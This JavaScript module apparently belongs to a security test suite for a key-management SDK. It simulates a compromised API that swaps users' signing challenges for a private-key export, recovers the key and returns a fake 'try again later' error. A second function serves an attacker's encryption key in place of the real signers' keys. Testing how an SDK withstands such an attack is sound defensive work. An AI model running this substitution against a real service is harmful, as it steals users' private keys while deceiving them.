/**
 * The API in the hands of an attacker who wants one key. It has its users' tokens,
 * and what it answers is up to him. The real API is behind it, as it would be behind
 * one that was taken over.
 */
import { createHash } from 'node:crypto';
import { recover } from './crypto/recovery.mjs';
import { startPassthrough } from './passthrough.mjs';
import { freshExport } from './sdk/flows.mjs';

/** What he may say that the challenge of his export is for. */
export const claims = [
  { name: 'what it is for', claim: (input) => input },
  { name: 'nothing', claim: () => undefined },
  {
    name: 'what the user wants',
    claim: (input, stated) => ({
      ...input,
      method: stated.userActionHttpMethod,
      path: stated.userActionHttpPath,
      payloadHash: createHash('sha256').update(stated.userActionPayload).digest('hex'),
    }),
  },
];

const nothing = async (url) => ({ url, close: async () => {} });

/**
 * Has an account's SDK meet the substitution of challenges, with what `between` starts
 * before the server. Gives how often the SDK signed, and the private key if the attacker
 * has it then.
 */
export async function meetSubstitution({ account, keyId, claim, between = nothing }, use) {
  let signatures = 0;
  const sign = (challenge) => {
    signatures++;
    return account.signer.sign(challenge);
  };
  const server = await startSubstitution(account.baseUrl, { authToken: account.authToken, keyId, claim });
  const way = await between(server.url);
  try {
    await use({ ...account, baseUrl: way.url, signer: { sign } });
  } finally {
    await way.close();
    await server.close();
  }
  return { signatures, stolen: server.stolen() };
}

/**
 * Whatever a user wants to sign, he gets the challenge of the attacker's export of the
 * key, and is asked to try again later. stolen() is the private key, once he has signed.
 */
async function startSubstitution(api, { authToken, keyId, claim }) {
  let stolen;
  const { decryptionKey, body } = freshExport();
  const [path, payload] = [`/keys/${keyId}/export`, JSON.stringify(body)];
  const call = caller(api, authToken);
  const server = await startPassthrough(api, {
    requests: {
      'POST /auth/action/init': async (stated) => {
        const wanted = { ...stated, userActionPayload: payload, userActionHttpMethod: 'POST', userActionHttpPath: path };
        const offer = await call('/auth/action/init', JSON.stringify(wanted));
        return { status: 200, body: { ...offer, challengeInput: claim(offer.challengeInput, stated) } };
      },
      'POST /auth/action': async (signed) => {
        const { userAction } = await call('/auth/action', JSON.stringify(signed));
        stolen = recover(decryptionKey, await call(path, payload, { 'x-dfns-useraction': userAction }));
        const message = 'try again later';
        return { status: 503, body: { error: { id: 'er-1', status: 503, message }, message } };
      },
    },
  });
  return { url: server.url, close: server.close, stolen: () => stolen };
}

/** In place of the signers' encryption keys all users are shown the attacker's. */
export async function startFalseSigners(api, { client }) {
  const { body } = freshExport();
  const { clusters } = await client.signers.listSigners();
  const disguised = ({ signers, ...cluster }) => ({
    ...cluster,
    signers: signers.map((signer) => ({ ...signer, encryptionKey: body.encryptionKey })),
  });
  const answer = { status: 200, body: { clusters: clusters.map(disguised) } };
  const server = await startPassthrough(api, { requests: { 'GET /signers': async () => answer } });
  return { url: server.url, close: server.close, encryptionKey: body.encryptionKey };
}

/** POSTs to the real API with the user's token. */
function caller(api, authToken) {
  return async (path, body, headers = {}) => {
    const all = { authorization: `Bearer ${authToken}`, 'content-type': 'application/json', ...headers };
    const response = await fetch(new URL(path, api), { method: 'POST', body, headers: all });
    if (!response.ok) throw new Error(`${path}: ${response.status} ${await response.text()}`);
    return response.json();
  };
}
